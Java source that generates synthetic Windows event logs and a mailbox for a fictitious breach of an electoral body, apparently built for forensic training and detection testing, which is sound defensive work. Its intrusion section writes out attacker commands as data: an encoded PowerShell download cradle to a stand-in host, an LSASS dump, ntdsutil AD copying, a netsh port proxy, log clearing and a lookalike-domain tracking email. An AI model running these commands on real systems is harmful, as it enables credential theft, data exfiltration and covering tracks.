package org.gamekeeper.engine.demo;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.gamekeeper.evtx.binxml.Value;
import org.gamekeeper.evtx.binxml.XmlNode;
import org.gamekeeper.evtx.write.EventBuilder;
import org.gamekeeper.evtx.write.EvtxWriter;

/**
 * A fictitious electoral-registration body ("EC", domain {@code ec.example}) breached the way
 * public advisories describe, written as the evidence its defenders would hold: one EVTX file per
 * host and log (Security with command-line auditing, Sysmon, System, Application) and a mailbox
 * export. The intrusion's commands were written from the advisories before any detection was
 * tuned on them:
 * <ul>
 *   <li>APT31-style reconnaissance mail to a member of parliament's office: a "journalist" from a
 *       lookalike news domain with a per-recipient tracking image (US DoJ indictment of APT31,
 *       25 March 2024; NCSC statement of the same day);</li>
 *   <li>an on-premises Exchange server exploited and a web shell run by IIS ({@code w3wp.exe}
 *       starting shells), as at the UK Electoral Commission (its statement of 8 August 2023:
 *       access from August 2021, found October 2022) and in CISA AA21-062A;</li>
 *   <li>living off the land: discovery bursts, LSASS dumped with comsvcs.dll, {@code ntdsutil}
 *       IFM copies of the AD database, {@code netsh interface portproxy}, WMI and PsExec-style
 *       lateral movement, archiving with a password, log clearing (CISA AA23-144A and AA24-038A,
 *       Volt Typhoon; joint guidance "Identifying and Mitigating Living Off the Land Techniques",
 *       February 2024);</li>
 *   <li>staging a bulk export of the electoral register with {@code sqlcmd} and {@code 7z}.</li>
 * </ul>
 * Around it, fifteen months of ordinary activity on every host: logons and logoffs, office
 * programs, browsers, services, updates, a nightly backup script, helpdesk commands. The same
 * seed gives the same files, byte for byte.
 */
public final class DemoScenario {

    /**
     * What was written, and what a correct analysis should conclude.
     *
     * @param intrusionRefs the intruders' events as {@code file#record}, and their mail as the file
     */
    public record Written(Path evidence, List<Path> files, long events, Instant firstEvidence, Instant lastEvidence,
                          List<String> attackedHosts, String beachhead, List<String> tactics, Set<String> intrusionRefs) {
        /** Whole days from the first evidence of the intrusion to the last. */
        public long dwellDays() {
            return Duration.between(firstEvidence, lastEvidence).toDays();
        }
    }

    public static final String DOMAIN = "EC";
    static final String EXCH = "EC-EXCH01.ec.example";
    static final String DC = "EC-DC01.ec.example";
    static final String DB = "EC-DB01.ec.example";
    static final Instant START = Instant.parse("2021-08-01T00:00:00Z");
    static final Instant END = Instant.parse("2022-10-31T00:00:00Z");
    /** When the intruders' first command ran on the Exchange server. */
    static final Instant FIRST = Instant.parse("2021-08-24T02:13:41Z");

    private static final String SECURITY = "Security";
    private static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final String SYSTEM = "System";
    private static final String APPLICATION = "Application";
    private static final String AUDIT = "Microsoft-Windows-Security-Auditing";
    private static final String SYSMON_PROVIDER = "Microsoft-Windows-Sysmon";

    private final Random random;
    private final List<Ev> events = new ArrayList<>();
    private final Map<String, String> addresses = new LinkedHashMap<>();
    private final List<String> workstations = new ArrayList<>();
    private long pid = 4000;
    private int guid;

    /** One event before it is written: where, when, what, and whether the intruders caused it. */
    private record Ev(Instant time, String host, String channel, String provider, int id, Map<String, String> data,
                      XmlNode.Element userData, boolean intrusion) { }

    /** True while the intrusion's events are made. */
    private boolean intruding;

    private DemoScenario(long seed) {
        this.random = new Random(seed);
        addresses.put(EXCH, "10.10.1.15");
        addresses.put(DC, "10.10.1.10");
        addresses.put(DB, "10.10.2.20");
        for (int i = 1; i <= 12; i++) {
            String ws = String.format(Locale.ROOT, "EC-WS%03d.ec.example", i);
            workstations.add(ws);
            addresses.put(ws, "10.10.4." + (30 + i));
        }
    }

    /** Writes the scenario under {@code dir} ({@code dir/evidence/…}); the same seed gives the same files. */
    public static Written write(Path dir, long seed) throws IOException {
        DemoScenario s = new DemoScenario(seed);
        s.background();
        s.intruding = true;
        s.intrusion();
        s.intruding = false;
        return s.writeFiles(dir.resolve("evidence"));
    }

    // ---- the intrusion ----

    private void intrusion() {
        String w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
        String w3wpLine = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\" -a \\\\.\\pipe\\iisipm";
        String system = "NT AUTHORITY\\SYSTEM";
        // Exchange's application pools do not recycle on a schedule: one OWA worker process serves for weeks
        Proc pool = new Proc(EXCH, w3wp, w3wpLine, system, "{5f1c2a3b-1f40-6121-0f00-000000003a00}");
        Instant t = FIRST;
        // the web shell answers: who am I, what domain is this (AA21-062A; Electoral Commission)
        Proc shell = process(t, pool, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all", system);
        t = t.plusSeconds(40);
        for (String c : List.of("cmd.exe /c net group \"Domain Admins\" /domain", "cmd.exe /c nltest /dclist:ec.example",
                "cmd.exe /c ipconfig /all", "cmd.exe /c systeminfo", "cmd.exe /c tasklist /v", "cmd.exe /c quser")) {
            Proc p = process(t, pool, "C:\\Windows\\System32\\cmd.exe", c, system);
            String tool = c.substring(c.indexOf("/c ") + 3).split(" ")[0];
            process(t.plusSeconds(1), p, "C:\\Windows\\System32\\" + (tool.equals("net") ? "net.exe" : tool + ".exe"),
                    c.substring(c.indexOf("/c ") + 3), system);
            t = t.plusSeconds(20 + random.nextInt(40));
        }
        // a download cradle, encoded (AA23-144A lists encoded PowerShell among the commands seen)
        String cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/ms/update.ps1')";
        process(t.plusSeconds(90), shell, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -nop -w hidden -enc " + utf16Base64(cradle), system);
        // credentials from LSASS through comsvcs.dll's MiniDump (AA23-144A; LOTL guidance)
        Instant dump = t.plusSeconds(600);
        Proc rundll = process(dump, pool, "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\mem.dmp full", system);
        lsassAccess(dump.plusSeconds(1), rundll, "0x1FFFFF");
        // a proxy back in through RDP (Volt Typhoon's netsh portproxy, AA23-144A)
        Instant proxy = Instant.parse("2021-08-25T01:05:12Z");
        process(proxy, pool, "C:\\Windows\\System32\\netsh.exe",
                "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50100 connectaddress=10.10.1.10 connectport=3389",
                system);

        // to the domain controller with the Exchange backup account's stolen hash (AA24-038A): on
        // the Exchange server a new-credentials logon (type 9, seclogo) as pass-the-hash tools make
        String account = "svc_exchbackup";
        Instant lateral = Instant.parse("2021-09-02T01:47:03Z");
        newCredentialsLogon(lateral.minusSeconds(30), EXCH, account);
        logon(lateral, DC, account, DOMAIN, 3, addresses.get(EXCH), "NTLM", "0x5a3f10");
        process(lateral.minusSeconds(2), pool, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:EC-DC01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full C:\\Windows\\Temp\\pdb\\\" q q\"",
                system);
        Proc wmiprvse = new Proc(DC, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                "NT AUTHORITY\\NETWORK SERVICE", null);
        String user = DOMAIN + "\\" + account;
        Proc dcShell = process(lateral.plusSeconds(1), wmiprvse, "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pdb\" q q", user);
        process(lateral.plusSeconds(2), dcShell, "C:\\Windows\\System32\\ntdsutil.exe",
                "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pdb\" q q", user);
        esent(lateral.plusSeconds(20), DC, 325);
        esent(lateral.plusSeconds(45), DC, 326);
        esent(lateral.plusSeconds(50), DC, 327);
        process(lateral.plusSeconds(300), dcShell, "C:\\Windows\\System32\\reg.exe",
                "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\pdb\\s.hiv", user);
        process(lateral.plusSeconds(330), wmiprvse, "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c 7z.exe a -t7z -pEC2021! -mhe=on C:\\Windows\\Temp\\p.7z C:\\Windows\\Temp\\pdb", user);

        // to the database server holding the register: a PsExec-style service, then the export
        Instant db = Instant.parse("2021-10-14T23:31:47Z");
        logon(db, DB, account, DOMAIN, 3, addresses.get(EXCH), "NTLM", "0x7b21c4");
        service(db.plusSeconds(2), DB, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "LocalSystem");
        Proc psexesvc = new Proc(DB, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", system, null);
        Proc dbShell = process(db.plusSeconds(3), psexesvc, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", system);
        process(db.plusSeconds(60), dbShell, "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
                "sqlcmd -S localhost -E -d ElectoralRegister -Q \"SELECT * FROM dbo.Electors\" -s \",\" -o C:\\PerfLogs\\e.csv", system);
        process(db.plusSeconds(2400), dbShell, "C:\\Program Files\\7-Zip\\7z.exe",
                "7z.exe a -t7z -mx9 -pVt!2021reg -mhe=on C:\\PerfLogs\\e.7z C:\\PerfLogs\\e.csv", system);
        process(db.plusSeconds(2500), dbShell, "C:\\Windows\\System32\\makecab.exe",
                "makecab C:\\PerfLogs\\e.7z C:\\PerfLogs\\e.cab", system);

        // staying: a scheduled task that runs the cradle again (AA24-038A)
        Instant task = Instant.parse("2022-03-03T04:12:09Z");
        taskCreated(task, EXCH, "\\Microsoft\\Windows\\WindowsUpdate\\Refresh",
                "powershell.exe -nop -w hidden -enc " + utf16Base64(cradle));

        // leaving: the logs cleared on the database server and the domain controller (AA23-144A)
        Instant clear = Instant.parse("2022-10-27T22:40:31Z");
        process(clear, dbShell, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", system);
        logCleared(clear.plusSeconds(1), DB, account);
        process(clear.plusSeconds(90), dcShell, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", user);
        logCleared(clear.plusSeconds(91), DC, account);
    }

    // ---- ordinary activity ----

    private void background() {
        List<String> users = List.of("a.khan", "b.morgan", "c.evans", "d.price", "e.hughes", "f.lewis", "g.wright", "h.patel",
                "i.jones", "j.taylor", "k.roberts", "l.walker");
        List<String[]> office = List.of(
                new String[] {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "},
                new String[] {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n"},
                new String[] {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" "},
                new String[] {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "},
                new String[] {"C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" "},
                new String[] {"C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\POWERPNT.EXE\" "});
        List<String> helpdesk = List.of("ipconfig /all", "gpupdate /force", "net use", "whoami", "hostname", "ping -n 2 EC-DC01");
        String system = "NT AUTHORITY\\SYSTEM";
        Proc services = new Proc(null, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", system, null);
        for (LocalDate day = LocalDate.ofInstant(START, ZoneOffset.UTC); day.isBefore(LocalDate.ofInstant(END, ZoneOffset.UTC));
                day = day.plusDays(1)) {
            Instant midnight = day.atStartOfDay().toInstant(ZoneOffset.UTC);
            boolean weekday = day.getDayOfWeek().getValue() <= 5;
            // staff at their workstations on weekdays
            for (int i = 0; i < workstations.size() && weekday; i++) {
                if (random.nextInt(10) == 0) {
                    continue; // on leave
                }
                String ws = workstations.get(i);
                String user = users.get(i);
                Instant in = midnight.plusSeconds(7 * 3600 + random.nextInt(3 * 3600));
                String logonId = "0x" + Long.toHexString(0x100000L + random.nextInt(0xfffff));
                logon(in, ws, user, DOMAIN, 2, "127.0.0.1", "Negotiate", logonId);
                logon(in.plusSeconds(3), DC, user, DOMAIN, 3, addresses.get(ws), "Kerberos",
                        "0x" + Long.toHexString(0x200000L + random.nextInt(0xfffff)));
                Proc explorer = new Proc(ws, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", DOMAIN + "\\" + user, null);
                int programs = 2 + random.nextInt(4);
                for (int p = 0; p < programs; p++) {
                    String[] prog = office.get(random.nextInt(office.size()));
                    process(in.plusSeconds(60 + random.nextInt(8 * 3600)), explorer, prog[0], prog[1], DOMAIN + "\\" + user);
                }
                logoff(in.plusSeconds(8 * 3600 + random.nextInt(2 * 3600)), ws, user, logonId);
                // the helpdesk now and then
                if (random.nextInt(40) == 0) {
                    String cmd = helpdesk.get(random.nextInt(helpdesk.size()));
                    Proc c = process(in.plusSeconds(1800), explorer, "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ",
                            DOMAIN + "\\" + user);
                    process(in.plusSeconds(1810), c, "C:\\Windows\\System32\\" + cmd.split(" ")[0] + ".exe", cmd, DOMAIN + "\\" + user);
                }
            }
            // servers: services, updates, the nightly backup, Exchange's own work
            for (String server : List.of(EXCH, DC, DB)) {
                Proc svc = new Proc(server, services.image, services.commandLine, system, null);
                Instant night = midnight.plusSeconds(60 + random.nextInt(1800));
                process(night, svc, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system);
                Proc backup = process(midnight.plusSeconds(2 * 3600 + random.nextInt(600)),
                        new Proc(server, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system, null),
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\nightly-backup.ps1", DOMAIN + "\\svc_backup");
                logon(midnight.plusSeconds(2 * 3600), server, "svc_backup", DOMAIN, 5, "-", "Negotiate",
                        "0x" + Long.toHexString(0x300000L + random.nextInt(0xfffff)));
                process(midnight.plusSeconds(2 * 3600 + 700), backup, "C:\\Windows\\System32\\Robocopy.exe",
                        "\"C:\\Windows\\system32\\Robocopy.exe\" D:\\Data \\\\EC-BKP01\\Backups\\" + server.substring(0, server.indexOf('.'))
                                + " /MIR /R:1 /W:5 /NP /LOG:C:\\Scripts\\backup.log", DOMAIN + "\\svc_backup");
                serviceState(midnight.plusSeconds(3 * 3600 + random.nextInt(3600)), server, "Windows Update", "running");
                serviceState(midnight.plusSeconds(4 * 3600 + random.nextInt(3600)), server, "Windows Update", "stopped");
                if (day.getDayOfMonth() == 15) {
                    process(midnight.plusSeconds(3 * 3600), svc, "C:\\Windows\\System32\\wuauclt.exe", "\"C:\\Windows\\system32\\wuauclt.exe\" /RunHandlerComServer", system);
                    process(midnight.plusSeconds(3 * 3600 + 300), svc, "C:\\Windows\\System32\\TiWorker.exe", "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\TiWorker.exe -Embedding", system);
                }
            }
            // the administrators' working day on the domain controller
            if (weekday) {
                Instant admin = midnight.plusSeconds(9 * 3600 + random.nextInt(6 * 3600));
                logon(admin, DC, "adm.jones", DOMAIN, 10, addresses.get(workstations.get(0)), "Negotiate",
                        "0x" + Long.toHexString(0x400000L + random.nextInt(0xfffff)));
                special(admin.plusSeconds(1), DC, "adm.jones");
                Proc mmc = new Proc(DC, "C:\\Windows\\System32\\mmc.exe", "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"",
                        DOMAIN + "\\adm.jones", null);
                process(admin.plusSeconds(120), new Proc(DC, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", DOMAIN + "\\adm.jones", null),
                        mmc.image, mmc.commandLine, DOMAIN + "\\adm.jones");
            }
        }
        // the office of a member of parliament receives the press, and one "journalist"
        mail();
    }

    // ---- event makers ----

    /** A process as its children see it. */
    private record Proc(String host, String image, String commandLine, String user, String guid) { }

    private Proc process(Instant t, Proc parent, String image, String commandLine, String user) {
        String host = parent.host();
        long id = pid += 4 + random.nextInt(400);
        String processGuid = String.format(Locale.ROOT, "{5f1c2a3b-%04x-%s-%04x-%012x}", (guid++ >> 16) & 0xffff,
                String.format(Locale.ROOT, "%04x", guid & 0xffff), random.nextInt(0x10000), Math.abs(random.nextLong()) % 0x1000000000000L);
        Map<String, String> sec = new LinkedHashMap<>();
        sec.put("SubjectUserSid", "S-1-5-18");
        sec.put("SubjectUserName", host.substring(0, host.indexOf('.')) + "$");
        sec.put("SubjectDomainName", DOMAIN);
        sec.put("SubjectLogonId", "0x3e7");
        sec.put("NewProcessId", "0x" + Long.toHexString(id));
        sec.put("NewProcessName", image);
        sec.put("TokenElevationType", "%%1936");
        sec.put("ProcessId", "0x" + Long.toHexString(pid - 7));
        sec.put("CommandLine", commandLine);
        sec.put("TargetUserSid", "S-1-0-0");
        sec.put("TargetUserName", user.substring(user.indexOf('\\') + 1));
        sec.put("TargetDomainName", user.substring(0, Math.max(0, user.indexOf('\\'))));
        sec.put("TargetLogonId", "0x0");
        sec.put("ParentProcessName", parent.image());
        sec.put("MandatoryLabel", "S-1-16-12288");
        add(t, host, SECURITY, AUDIT, 4688, sec);
        Map<String, String> s = new LinkedHashMap<>();
        s.put("RuleName", "-");
        s.put("UtcTime", utc(t));
        s.put("ProcessGuid", processGuid);
        s.put("ProcessId", Long.toString(id));
        s.put("Image", image);
        s.put("FileVersion", "-");
        s.put("Description", "-");
        s.put("Product", "-");
        s.put("Company", "-");
        s.put("OriginalFileName", image.substring(image.lastIndexOf('\\') + 1));
        s.put("CommandLine", commandLine);
        s.put("CurrentDirectory", "C:\\Windows\\system32\\");
        s.put("User", user);
        s.put("LogonId", "0x3e7");
        s.put("IntegrityLevel", "High");
        s.put("Hashes", "SHA256=" + hex(32));
        s.put("ParentProcessGuid", parent.guid() == null ? "{00000000-0000-0000-0000-000000000000}" : parent.guid());
        s.put("ParentProcessId", Long.toString(pid - 7));
        s.put("ParentImage", parent.image());
        s.put("ParentCommandLine", parent.commandLine());
        s.put("ParentUser", parent.user());
        add(t, host, SYSMON, SYSMON_PROVIDER, 1, s);
        return new Proc(host, image, commandLine, user, processGuid);
    }

    private void lsassAccess(Instant t, Proc source, String access) {
        Map<String, String> s = new LinkedHashMap<>();
        s.put("RuleName", "-");
        s.put("UtcTime", utc(t));
        s.put("SourceProcessGUID", source.guid());
        s.put("SourceProcessId", "4512");
        s.put("SourceThreadId", "4520");
        s.put("SourceImage", source.image());
        s.put("TargetProcessGUID", "{5f1c2a3b-0000-0000-0000-000000000652}");
        s.put("TargetProcessId", "652");
        s.put("TargetImage", "C:\\Windows\\system32\\lsass.exe");
        s.put("GrantedAccess", access);
        s.put("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+1a8f3");
        s.put("SourceUser", source.user());
        s.put("TargetUser", "NT AUTHORITY\\SYSTEM");
        add(t, source.host(), SYSMON, SYSMON_PROVIDER, 10, s);
    }

    private void logon(Instant t, String host, String user, String domain, int type, String ip, String package_, String logonId) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("SubjectUserSid", "S-1-0-0");
        d.put("SubjectUserName", "-");
        d.put("SubjectDomainName", "-");
        d.put("SubjectLogonId", "0x0");
        d.put("TargetUserSid", sid(user));
        d.put("TargetUserName", user);
        d.put("TargetDomainName", domain);
        d.put("TargetLogonId", logonId);
        d.put("LogonType", Integer.toString(type));
        d.put("LogonProcessName", package_.equals("NTLM") ? "NtLmSsp " : "Kerberos");
        d.put("AuthenticationPackageName", package_);
        d.put("WorkstationName", ip.startsWith("10.") ? hostOf(ip) : "-");
        d.put("LogonGuid", "{00000000-0000-0000-0000-000000000000}");
        d.put("LmPackageName", package_.equals("NTLM") ? "NTLM V2" : "-");
        d.put("KeyLength", package_.equals("NTLM") ? "128" : "0");
        d.put("ProcessId", "0x0");
        d.put("ProcessName", "-");
        d.put("IpAddress", ip);
        d.put("IpPort", ip.equals("-") ? "-" : Integer.toString(49152 + random.nextInt(16000)));
        d.put("ImpersonationLevel", "%%1833");
        add(t, host, SECURITY, AUDIT, 4624, d);
    }

    /** 4624 type 9 (NewCredentials) through seclogo, the trace a pass-the-hash tool leaves on the host it runs on. */
    private void newCredentialsLogon(Instant t, String host, String user) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("SubjectUserSid", "S-1-5-18");
        d.put("SubjectUserName", host.substring(0, host.indexOf('.')) + "$");
        d.put("SubjectDomainName", DOMAIN);
        d.put("SubjectLogonId", "0x3e7");
        d.put("TargetUserSid", "S-1-5-18");
        d.put("TargetUserName", "SYSTEM");
        d.put("TargetDomainName", "NT AUTHORITY");
        d.put("TargetLogonId", "0x" + Long.toHexString(0x5a3000L + random.nextInt(0xfff)));
        d.put("LogonType", "9");
        d.put("LogonProcessName", "seclogo");
        d.put("AuthenticationPackageName", "Negotiate");
        d.put("WorkstationName", "-");
        d.put("LogonGuid", "{00000000-0000-0000-0000-000000000000}");
        d.put("TargetOutboundUserName", user);
        d.put("TargetOutboundDomainName", DOMAIN);
        d.put("ProcessId", "0x1a2c");
        d.put("ProcessName", "C:\\Windows\\System32\\rundll32.exe");
        d.put("IpAddress", "::1");
        d.put("IpPort", "0");
        d.put("ImpersonationLevel", "%%1833");
        add(t, host, SECURITY, AUDIT, 4624, d);
    }

    private void logoff(Instant t, String host, String user, String logonId) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("TargetUserSid", sid(user));
        d.put("TargetUserName", user);
        d.put("TargetDomainName", DOMAIN);
        d.put("TargetLogonId", logonId);
        d.put("LogonType", "2");
        add(t, host, SECURITY, AUDIT, 4634, d);
    }

    private void special(Instant t, String host, String user) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("SubjectUserSid", sid(user));
        d.put("SubjectUserName", user);
        d.put("SubjectDomainName", DOMAIN);
        d.put("SubjectLogonId", "0x" + Long.toHexString(0x400000L + random.nextInt(0xfffff)));
        d.put("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege");
        add(t, host, SECURITY, AUDIT, 4672, d);
    }

    private void service(Instant t, String host, String name, String path, String account) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("ServiceName", name);
        d.put("ImagePath", path);
        d.put("ServiceType", "user mode service");
        d.put("StartType", "demand start");
        d.put("AccountName", account);
        add(t, host, SYSTEM, "Service Control Manager", 7045, d);
    }

    private void serviceState(Instant t, String host, String name, String state) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("param1", name);
        d.put("param2", state);
        add(t, host, SYSTEM, "Service Control Manager", 7036, d);
    }

    private void taskCreated(Instant t, String host, String name, String command) {
        Map<String, String> d = new LinkedHashMap<>();
        d.put("SubjectUserSid", "S-1-5-18");
        d.put("SubjectUserName", host.substring(0, host.indexOf('.')) + "$");
        d.put("SubjectDomainName", DOMAIN);
        d.put("SubjectLogonId", "0x3e7");
        d.put("TaskName", name);
        String exe = command.substring(0, command.indexOf(' '));
        String args = command.substring(command.indexOf(' ') + 1);
        d.put("TaskContent", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">"
                + "<Triggers><TimeTrigger><Repetition><Interval>PT4H</Interval></Repetition><StartBoundary>2022-03-03T04:15:00</StartBoundary>"
                + "<Enabled>true</Enabled></TimeTrigger></Triggers><Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId>"
                + "<RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Hidden>true</Hidden></Settings>"
                + "<Actions Context=\"Author\"><Exec><Command>" + exe + "</Command><Arguments>" + args + "</Arguments></Exec></Actions></Task>");
        add(t, host, SECURITY, AUDIT, 4698, d);
    }

    /** ESENT's 325/326/327 (database created, attached, detached) for the copied AD database: classic, unnamed data. */
    private void esent(Instant t, String host, int id) {
        events.add(new Ev(t, host, APPLICATION, "ESENT", id,
                unnamed("NTDS", "652", "C:\\Windows\\Temp\\pdb\\Active Directory\\ntds.dit"), null, intruding));
    }

    /** Data items without names, as classic providers write them (their keys start with a NUL). */
    private static Map<String, String> unnamed(String... values) {
        Map<String, String> d = new LinkedHashMap<>();
        for (int i = 0; i < values.length; i++) {
            d.put("\u0000" + i, values[i]);
        }
        return d;
    }

    private void logCleared(Instant t, String host, String user) {
        XmlNode.Element content = new XmlNode.Element("LogFileCleared",
                List.of(new XmlNode.Attribute("xmlns", List.of(Value.string("http://manifests.microsoft.com/win/2004/08/windows/eventlog")))),
                List.of(leaf("SubjectUserSid", sid(user)), leaf("SubjectUserName", user), leaf("SubjectDomainName", DOMAIN),
                        leaf("SubjectLogonId", "0x" + Long.toHexString(0x7b21c4))));
        events.add(new Ev(t, host, SECURITY, "Microsoft-Windows-Eventlog", 1102, Map.of(), content, intruding));
    }

    private static XmlNode.Element leaf(String name, String value) {
        return new XmlNode.Element(name, List.of(), List.of(Value.string(value)));
    }

    private void add(Instant t, String host, String channel, String provider, int id, Map<String, String> data) {
        events.add(new Ev(t, host, channel, provider, id, data, null, intruding));
    }

    // ---- mail ----

    private final List<String[]> messages = new ArrayList<>();

    private void mail() {
        String to = "\"Office of Jan Novak MP\" <office@novak-mp.example>";
        messages.add(new String[] {"2021-08-10-journalist.eml", "intrusion", message(
                "\"Hannah Whitcombe | The Guardian\" <h.whitcombe@theguardian-news.com>", to,
                "Draft article: electoral security and foreign interference - your comment?",
                "Tue, 10 Aug 2021 08:41:27 +0000", "20210810084127.5521@theguardian-news.com",
                "Dear Mr Novak,\n\nI am a correspondent with The Guardian preparing a piece on foreign interference in\n"
                        + "elections and the security of the electoral register. Read the draft here:\n"
                        + "https://theguardian-news.com/politics/2021/aug/10/register-security?rid=c71e0b94a2d35f18\n\n"
                        + "Kind regards,\nHannah Whitcombe\n",
                "<p>Dear Mr Novak,</p><p>I am a correspondent with <b>The Guardian</b> preparing a piece on foreign interference "
                        + "in elections and the security of the electoral register. <a href=\"https://theguardian-news.com/politics/2021/aug/10/register-security?rid=c71e0b94a2d35f18\">Read the draft</a>.</p>"
                        + "<p>Kind regards,<br>Hannah Whitcombe</p>"
                        + "<img src=\"https://cdn.theguardian-news.com/px/c71e0b94a2d35f18.gif\" width=\"1\" height=\"1\" style=\"display:none\" alt=\"\">")});
        String[][] press = {
            {"2021-08-03-briefing.eml", "\"Parliamentary Digest\" <digest@parliament-digest.example>", "This week in Parliament",
                "Tue, 3 Aug 2021 07:00:00 +0000"},
            {"2021-08-17-briefing.eml", "\"Parliamentary Digest\" <digest@parliament-digest.example>", "This week in Parliament",
                "Tue, 17 Aug 2021 07:00:00 +0000"},
            {"2021-08-19-constituent.eml", "\"Mary Collins\" <mary.collins@example.net>", "Bus route 42",
                "Thu, 19 Aug 2021 18:22:10 +0100"}};
        for (String[] p : press) {
            String id = p[0].replace(".eml", "") + "@" + p[1].substring(p[1].indexOf('@') + 1, p[1].length() - 1);
            messages.add(new String[] {p[0], "ordinary", message(p[1], to, p[2], p[3], id,
                    "Dear Mr Novak,\n\nPlease find this week's notes below.\n\nBest wishes\n",
                    "<p>Dear Mr Novak,</p><p>Please find this week's notes below.</p><p>Best wishes</p>")});
        }
    }

    private static String message(String from, String to, String subject, String date, String id, String text, String html) {
        return "From: " + from + "\r\nTo: " + to + "\r\nSubject: " + subject + "\r\nDate: " + date + "\r\nMessage-ID: <" + id
                + ">\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\n"
                + "Content-Type: text/plain; charset=utf-8\r\n\r\n" + text.replace("\n", "\r\n") + "\r\n--b1\r\n"
                + "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>\r\n" + html + "\r\n</body></html>\r\n--b1--\r\n";
    }

    // ---- writing ----

    private Written writeFiles(Path dir) throws IOException {
        Files.createDirectories(dir);
        events.sort(Comparator.comparing(Ev::time).thenComparing(Ev::host).thenComparing(Ev::channel));
        Map<String, List<Ev>> byLog = new TreeMap<>();
        for (Ev e : events) {
            byLog.computeIfAbsent(e.host() + "\u0000" + e.channel(), k -> new ArrayList<>()).add(e);
        }
        List<Path> files = new ArrayList<>();
        Set<String> intrusionRefs = new TreeSet<>();
        for (Map.Entry<String, List<Ev>> log : byLog.entrySet()) {
            List<Ev> list = log.getValue();
            String host = list.get(0).host();
            String channel = list.get(0).channel();
            Path f = dir.resolve(host.substring(0, host.indexOf('.'))).resolve(channel.replace('/', '%') + ".evtx");
            Files.createDirectories(f.getParent());
            List<XmlNode.Element> xml = new ArrayList<>(list.size());
            long record = 0;
            for (Ev e : list) {
                if (e.intrusion()) {
